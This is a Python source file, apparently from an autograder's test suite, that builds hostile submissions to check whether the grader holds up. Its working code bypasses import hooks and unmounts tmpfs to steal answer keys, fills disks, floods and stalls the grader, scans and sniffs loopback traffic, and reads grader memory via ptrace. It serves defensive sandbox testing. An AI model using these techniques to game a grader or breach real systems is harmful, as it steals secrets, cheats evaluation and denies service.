    raise RuntimeError('found: ' + ' | '.join(dict.fromkeys(found))[:480] if found else 'nothing found')
''', 'import os\n' + GRADER_PIDS), RUN_BACKWARD, group='read', promise='isolated'),
    hostile('imports_kit_past_blocker',
            "drops the worker's import hooks, finds the kit through the virtualenv's records (editable-install "
            'finder, direct_url.json) and imports solutions from there', hostile_backward(r'''
    for answer in ANSWERS:
        try:
            return answer(dout, cache)
        except Exception:
            continue
    raise RuntimeError('found: ' + ' | '.join(CLUES)[:480] if CLUES else 'nothing found')
''', r'''import glob, importlib.util, json, os, re, sys

sys.meta_path[:] = [f for f in sys.meta_path if getattr(f, '__module__', '') in ('_frozen_importlib',
                                                                               '_frozen_importlib_external')]
CLUES, ANSWERS = [], []
places = set()
for site in glob.glob(os.path.join(sys.prefix, 'lib', 'python*', 'site-packages')) + sys.path:
    for record in glob.glob(os.path.join(site, '__editable__*finder.py')) + \
            glob.glob(os.path.join(site, 'bnkit*', 'direct_url.json')) + glob.glob(os.path.join(site, '*.pth')):
        try:
            with open(record) as f:
                text = f.read()
        except OSError:
            continue
        places.update(re.findall(r"'(/[^']+?)/solutions'", text))
        places.update(p[len('file://'):] for p in re.findall(r'file://[^"]+', text))
    places.add(site)
places.add(os.path.dirname(os.path.realpath(sys.prefix)))
for place in sorted(places):
    path = os.path.join(place, 'solutions', '@answers_file@')
    CLUES.append(place)
    try:
        spec = importlib.util.spec_from_file_location('loot_layers', path)
        module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)
        ANSWERS.append(module.@backward@)
    except Exception:
        pass
try:
    sys.path.extend(sorted(places))
    from @answers_module@ import @backward@ as imported
    ANSWERS.append(imported)
except Exception:
    pass

'''), CALL_BACKWARD, group='read', promise='secret'),
]

# ----------------------------------------------------------------------------------------------------------
# Exhausting shared places: each fills until the place is full or a bound (so that a machine where the
# place is not private survives the validation) and leaves its files behind.

FILL_BODY = r'''
    global FILLED
    if not FILLED:
        FILLED = True
        fill()
    raise NotImplementedError
'''


def filler(places, megabytes, files=0):
    return r'''import os, signal

FILLED = False
CHUNK = b'\0' * (16 << 20)


def fill():
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)    # a file too large is an error, not my death
    for place in %r:
        place = place.replace('CWD', os.getcwd())
        for i in range(%d // 48):
            try:
                with open(os.path.join(place, 'bnkit-hostile-NAME-%%d' %% i), 'wb') as f:
                    for _ in range(3):
                        f.write(CHUNK)
            except OSError:
                break
        inodes = os.path.join(place, 'bnkit-hostile-NAME-inodes')
        try:
            os.makedirs(inodes, exist_ok=True)
            for i in range(%d):
                open(os.path.join(inodes, str(i)), 'w').close()
        except OSError:
            pass

''' % (list(places), megabytes, files)


FILL = [
    hostile('fills_tmp', 'writes 48 MiB files into /tmp until it is full (at most 512 MiB) and leaves them',
            hostile_backward(FILL_BODY, filler(['/tmp'], 512)), RUN_BACKWARD, group='fill', promise='isolated'),
    hostile('fills_dev_shm', 'fills /dev/shm (at most 512 MiB) and leaves the files',
            hostile_backward(FILL_BODY, filler(['/dev/shm'], 512)), RUN_BACKWARD, group='fill',
            promise='isolated'),
    hostile('fills_var_tmp_inodes', 'creates 30,000 empty files each in /var/tmp and /tmp, and 256 MiB in /var/tmp',
            hostile_backward(FILL_BODY, filler(['/var/tmp', '/tmp'], 256, files=30000)), RUN_BACKWARD,
            group='fill', promise='isolated'),
    hostile('fills_cwd', 'fills its working folder (at most 512 MiB and 20,000 files)',
            hostile_backward(FILL_BODY, filler(['CWD'], 512, files=20000)), RUN_BACKWARD, group='fill',
            promise='isolated'),
]

# ----------------------------------------------------------------------------------------------------------
# Exhausting the grader through the reply channel and the output streams.

GRADER = [
    hostile('half_header_then_sleeps', 'writes half of a reply header on every channel to the grader, then '
            'sleeps for an hour', hostile_backward(r'''
    for fd in reply_channels():
        try:
            os.write(fd, b'\0\0')
        except OSError:
            pass
    time.sleep(3600)
''', 'import os, time\n' + REPLY_CHANNELS), RUN_BACKWARD, group='grader'),
    hostile('trickles_reply', 'announces a 1 MiB reply header and sends it one byte every 2 s, so that '
            'the grader never waits long for the next byte', hostile_backward(r'''
    channels = reply_channels()
    for fd in channels:
        try:
            os.write(fd, struct.pack('>I', 1 << 20) + b'{')
        except OSError:
            pass
    for _ in range(1800):
        time.sleep(2)
        for fd in channels:
            try:
                os.write(fd, b' ')
            except OSError:
                pass
''', 'import os, struct, time\n' + REPLY_CHANNELS), RUN_BACKWARD, group='grader'),
    hostile('announces_huge_arrays', 'answers with a header announcing 12 arrays of 256 MiB and really '
            'sends 1.5 GiB of zeros, hoping the grader buffers it all', hostile_backward(r'''
    header = frame_header({'ok': [{'__ndarray__': i, 'dtype': 'float64', 'shape': [1 << 25]} for i in range(3)]})
    zeros = b'\0' * (16 << 20)
    for fd in reply_channels():
        try:
            os.write(fd, header + struct.pack('>I', 12))
            for _ in range(6):      # 6 arrays of 256 MiB really sent, 6 more announced
                os.write(fd, struct.pack('>Q', 1 << 28))
                for _ in range(16):
                    view = memoryview(zeros)
                    while view:
                        view = view[os.write(fd, view):]
        except OSError:
            pass
    time.sleep(3600)
''', 'import os, time\n' + WIRE_FRAMING + REPLY_CHANNELS), RUN_BACKWARD, group='grader'),
    hostile('floods_output', 'writes 2 GiB to stdout and stderr (raw descriptors and sys streams), ignoring '
            'SIGXFSZ and SIGPIPE, then fails like the stub', hostile_backward(r'''
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    signal.signal(signal.SIGPIPE, signal.SIG_IGN)
    line = ('x' * 1023 + '\n') * 1024
    start = time.monotonic()
    for _ in range(1024):
        if time.monotonic() - start > 3.5:
            break
        for write in (lambda: os.write(1, line.encode()), lambda: os.write(2, line.encode()),
                      lambda: sys.stdout.write(line), lambda: sys.stderr.write(line)):
            try:
                write()
            except (OSError, ValueError):
                pass
    raise NotImplementedError
''', 'import os, signal, sys, time\n'), RUN_BACKWARD, group='grader'),
    # Parser bombs in the cells themselves: the grader compiles every cell it extracts, and Python's parser
    # recurses once per bracket (autograder.notebook.extract bounds it; the cell is left out with a reason).
    hostile('nests_brackets_past_the_parser', 'a net cell of 50,000 nested brackets, which the parser '
            'cannot take', {'net': 'x = ' + '(' * 50000 + '1' + ')' * 50000 + '\n'}, USE_NET, group='grader'),
    hostile('huge_cell', 'a net cell of 300,000 characters, past what any solution cell holds',
            {'net': '# padding\n' * 30000 + 'raise SystemExit\n'}, USE_NET, group='grader'),
]

# ----------------------------------------------------------------------------------------------------------
# Namespaces, ptrace and sockets: each success is only useful when it reaches outside the worker, so each
# one tries to (reveal hidden folders, read the grader's memory, reach the run's listener, sniff its traffic).

SCAN_LISTENERS = r'''
import socket


def listeners(kind='tcp'):
    """(family, address, port) of the sockets listening (TCP) or bound (UDP) on this machine's loopback."""
    found = []
    for name, family in ((kind, socket.AF_INET), (kind + '6', socket.AF_INET6)):
        try:
            with open('/proc/net/' + name) as f:
                rows = [line.split() for line in f.readlines()[1:]]
        except OSError:
            continue
        for row in rows:
            local, state = row[1], row[3]
            if kind == 'tcp' and state != '0A':   # LISTEN
                continue
            address, port = local.split(':')
            port = int(port, 16)
            if port:
                found.append((family, '127.0.0.1' if family == socket.AF_INET else '::1', port))
    return found

'''

KERNEL = [
    hostile('connects_to_local_services', "connects to every TCP port listening on the machine's loopback "
            '(from /proc/net/tcp, tcp6 and common ports) and says hello', hostile_backward(r'''
    targets = listeners('tcp') + [(socket.AF_INET, '127.0.0.1', p) for p in (22, 80, 443, 5432, 6379, 8000,
                                                                            8080, 8888, 9000)]
    reached = []
    for family, address, port in dict.fromkeys(targets):
        try:
            with socket.socket(family, socket.SOCK_STREAM) as s:
                s.settimeout(0.3)
                s.connect((address, port))
                s.sendall(b'bnkit-hostile-NAME says hello\n')
                reached.append(port)
        except OSError:
            pass
    if reached:
        raise RuntimeError('bnkit-hostile-NAME reached ports %s' % reached)
    raise NotImplementedError
''', SCAN_LISTENERS), RUN_BACKWARD, group='kernel', promise='isolated'),
    hostile('sends_udp_and_asks_netlink', 'sends UDP datagrams to every bound loopback port, lists the '
            "machine's addresses over netlink (AF_NETLINK) and tries the TCP listeners on each",
            hostile_backward(r'''
    sent = []
    for family, address, port in listeners('udp'):
        try:
            with socket.socket(family, socket.SOCK_DGRAM) as s:
                s.sendto(b'bnkit-hostile-NAME datagram', (address, port))
                sent.append(port)
        except OSError:
            pass
    addresses = {'127.0.0.1'}
    try:
        with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as nl:   # NETLINK_ROUTE
            nl.settimeout(1)
            # RTM_GETADDR dump request: nlmsghdr + ifaddrmsg
            nl.send(struct.pack('=IHHII', 24, 22, 0x301, 1, 0) + struct.pack('=BBBBI', 2, 0, 0, 0, 0))
            data = nl.recv(65536)
            addresses |= {socket.inet_ntoa(data[i + 4:i + 8]) for i in range(len(data) - 8)
                          if data[i:i + 4] == struct.pack('=HH', 8, 1)}   # IFA_ADDRESS attributes
    except OSError:
        pass
    reached = []
    for _, _, port in listeners('tcp'):
        for address in addresses:
            try:
                with socket.create_connection((address, port), timeout=0.3) as s:
                    s.sendall(b'bnkit-hostile-NAME\n')
                    reached.append((address, port))
            except OSError:
                pass
    if reached or sent:
        raise RuntimeError('bnkit-hostile-NAME reached %s, sent to %s' % (reached, sent))
    raise NotImplementedError
''', 'import struct\n' + SCAN_LISTENERS), RUN_BACKWARD, group='kernel', promise='isolated'),
    hostile('sniffs_loopback', 'opens raw sockets (AF_PACKET, and AF_INET SOCK_RAW for UDP and TCP), listens '
            "to the machine's traffic for 3 s and raises anything that looks like a secret",
            hostile_backward(r'''
    heard = []
    sockets = []
    for family, kind, proto in ((socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)),
                                (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP),
                                (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)):
        try:
            s = socket.socket(family, kind, proto)
            s.settimeout(0.05)
            sockets.append(s)
        except OSError:
            pass
    deadline = time.monotonic() + 3
    while sockets and time.monotonic() < deadline:
        for s in sockets:
            try:
                packet = s.recv(65536)
            except OSError:
                continue
            heard += re.findall(rb'[\w-]*(?:secret|token|passw)[\w-]*', packet, re.I)
    for s in sockets:
        s.close()
    if heard:
        raise RuntimeError('bnkit-hostile-NAME heard: ' + ' '.join(sorted({h.decode(errors='replace') for h in heard}))[:400])
    raise NotImplementedError
''', 'import re, socket, time\n'), RUN_BACKWARD, group='kernel', promise='isolated'),
    hostile('unshares_to_unhide_the_kit', 'in a child: unshare(CLONE_NEWUSER | CLONE_NEWNS) (os.unshare or '
            'ctypes), becomes root there, unmounts every tmpfs that hides something and hands back the '
            'answer key found underneath', {'backward': CTYPES_LIBC + r'''
import json


def loot_in_new_namespace():
    """Runs in a forked child; returns the sources of every solutions/@answers_file@ it could reveal."""
    flags = CLONE_NEWUSER | CLONE_NEWNS
    if hasattr(os, 'unshare'):
        os.unshare(flags)
    elif libc.unshare(flags) != 0:
        raise OSError(ctypes.get_errno(), 'unshare')
    become_root_inside()
    libc.mount(b'none', b'/', None, MS_REC | MS_PRIVATE, None)
    sources = {}
    for point in hiding_mounts():
        libc.umount2(point.encode(), MNT_DETACH)
    for point in hiding_mounts() + ['/']:
        for top in (point, os.path.dirname(point)):
            path = os.path.join(top, 'solutions', '@answers_file@')
            try:
                with open(path) as f:
                    sources[path] = f.read()
            except OSError:
                pass
    return sources


def in_child(task):
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.close(read)
            os.write(write, json.dumps(task()).encode())
        except BaseException as exc:
            os.write(write, json.dumps({'': repr(exc)}).encode())
        finally:
            os._exit(0)
    os.close(write)
    data = b''
    while True:
        chunk = os.read(read, 1 << 16)
        if not chunk:
            break
        data += chunk
    os.close(read)
    os.waitpid(pid, 0)
    return json.loads(data or b'{}')


@backward_def@
    import numpy as np
    for path, source in in_child(loot_in_new_namespace).items():
        namespace = {'np': np}
        try:
            exec(source, namespace)
            return namespace['@backward@'](dout, cache)
        except Exception:
            continue
    raise NotImplementedError
'''}, CALL_BACKWARD, group='kernel', promise='isolated'),
    hostile('clones_new_user_namespace', 'clone(CLONE_NEWUSER | CLONE_NEWPID | CLONE_NEWNET | CLONE_NEWNS) '
            'through the raw system call; the child, root in there, tries to write where only the real root '
            'may (/etc, /autograder, /usr/local) and into every folder the grader owns', hostile_backward(r'''
    pid = libc.syscall(SYS_CLONE, CLONE_NEWUSER | CLONE_NEWPID | CLONE_NEWNET | CLONE_NEWNS | 17, 0, 0, 0, 0)
    if pid == 0:
        try:
            become_root_inside()
            for folder in ['/etc', '/autograder', '/autograder/source', '/usr/local', '/root', '/var/lib', '/srv'] \
                    + [os.path.join(t, d) for t in ('/tmp', '/var/tmp') for d in os.listdir(t)]:
                try:
                    with open(os.path.join(folder, 'bnkit-hostile-NAME-was-root'), 'w') as f:
                        f.write('root in a user namespace\n')
                except OSError:
                    pass
        finally:
            os._exit(0)
    if pid > 0:
        os.waitpid(pid, 0x40000000)   # __WALL
    raise NotImplementedError
''', CTYPES_LIBC), RUN_BACKWARD, group='kernel', promise='isolated'),
    hostile('ptrace_attaches_to_grader', "PTRACE_ATTACH to its ancestors and anything that looks like the "
            "grader, reads the top of each one's stack through /proc/PID/mem and raises the secrets in it",
            hostile_backward(r'''
    found = []
    for pid in grader_pids():
        if libc.ptrace(16, pid, None, None) != 0:    # PTRACE_ATTACH
            continue
        try:
            os.waitpid(pid, 0x40000000)
            if looks_like_grader(pid):
                found.append('bnkit-hostile-NAME attached to %d' % pid)
            found += secrets_in(read_stack(pid))
        except OSError:
            pass
        finally:
            libc.ptrace(17, pid, None, None)         # PTRACE_DETACH
    if found:
        raise RuntimeError(' | '.join(dict.fromkeys(found))[:480])
    raise NotImplementedError
''', CTYPES_LIBC + GRADER_PIDS + r'''
def read_stack(pid):
    with open('/proc/%d/maps' % pid) as f:
        stack = next(line for line in f if line.rstrip().endswith('[stack]'))
    start, end = (int(x, 16) for x in stack.split()[0].split('-'))
    with open('/proc/%d/mem' % pid, 'rb') as mem:
        mem.seek(max(start, end - (256 << 10)))
        return mem.read(end - max(start, end - (256 << 10)))

'''), RUN_BACKWARD, group='kernel', promise='isolated'),
    hostile('reads_grader_memory', 'process_vm_readv (no attach) of the stack of its ancestors and of '
            'anything that looks like the grader, and raises the secrets in it', hostile_backward(r'''
    found = []
    for pid in grader_pids():
        try:
            with open('/proc/%d/maps' % pid) as f:
                stack = next(line for line in f if line.rstrip().endswith('[stack]'))
        except (OSError, StopIteration):
            continue
        start, end = (int(x, 16) for x in stack.split()[0].split('-'))
        size = min(end - start, 256 << 10)
        buffer = ctypes.create_string_buffer(size)
        local = Iovec(ctypes.cast(buffer, ctypes.c_void_p), size)
        remote = Iovec(ctypes.c_void_p(end - size), size)
        got = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
        if got > 0:
            if looks_like_grader(pid):
                found.append('bnkit-hostile-NAME read %d bytes of %d' % (got, pid))
            found += secrets_in(buffer.raw[:got])
    if found:
        raise RuntimeError(' | '.join(dict.fromkeys(found))[:480])
    raise NotImplementedError
''', CTYPES_LIBC + GRADER_PIDS + r'''
class Iovec(ctypes.Structure):
    _fields_ = [('base', ctypes.c_void_p), ('length', ctypes.c_size_t)]


libc.process_vm_readv.restype = ctypes.c_ssize_t

'''), RUN_BACKWARD, group='kernel', promise='isolated'),
]

ATTACKS = CRASH + FOOL + TAMPER + ESCAPE + READ + FILL + GRADER + KERNEL


# ----------------------------------------------------------------------------------------------------------
# The attacks, made concrete for one assignment.

def function_name(def_line):
    found = re.match(r'\s*def\s+(\w+)\s*\(', def_line)
    if not found:
        raise ValueError('%r is not the first line of a function definition' % def_line)
    return found.group(1)


def unearned_checks(assignment):
    """{rule: the names of the checks an attack under that rule must earn nothing in}, in run order."""
    targets = assignment.attack_targets
    forward, backward = function_name(targets.forward[1]), function_name(targets.backward[1])
    unknown = set(assignment.training_checks) - set(assignment.by_name)
    if unknown:
        raise ValueError('%s: training_checks names no check called %s' % (assignment.name, ', '.join(sorted(unknown))))

    def checks(keep):
        return tuple(spec.name for spec in assignment.checks if keep(spec))
    return {
        CALL_FORWARD: checks(lambda spec: forward in spec.needs),
        CALL_BACKWARD: checks(lambda spec: backward in spec.needs),
        RUN_BACKWARD: checks(lambda spec: backward in spec.needs or spec.name in assignment.training_checks),
        USE_NET: net_checks(assignment),
        EVERY_CHECK: checks(lambda spec: True),   # a worker that dies while the cells load answers nothing
    }


def placeholders(assignment):
    """What the attacks' @...@ placeholders stand for in this assignment."""
    targets = assignment.attack_targets
    answers_module = assignment.module('cells').CELLS[targets.backward[0]][0].__module__
    return {'@forward_def@': targets.forward[1], '@backward_def@': targets.backward[1],
            '@forward@': function_name(targets.forward[1]), '@backward@': function_name(targets.backward[1]),
            '@answers_module@': answers_module, '@answers_file@': answers_module.rsplit('.', 1)[-1] + '.py'}


@lru_cache(maxsize=None)
def hostile_variants(assignment):
    """Every attack as a ``Variant`` of ``assignment``: its cells replaced, its expected losses named."""
    if assignment.attack_targets is None:
        raise ValueError('%s declares no attack_targets (autograder.assignment.AttackTargets)' % assignment.name)
    targets = assignment.attack_targets
    grade_ids = {'forward': targets.forward[0], 'backward': targets.backward[0], 'net': targets.net}
    unearned, words = unearned_checks(assignment), placeholders(assignment)

    def concrete(text):
        for placeholder, word in words.items():
            text = text.replace(placeholder, word)
        return text
    return tuple(Variant(a.name, 'hostile', concrete(a.description),
                         {grade_ids[role]: concrete(source) for role, source in a.cells.items()},
                         loses_in=unearned[a.unearned], group=a.group, promise=a.promise,
                         assignment=assignment.name)
                 for a in ATTACKS)
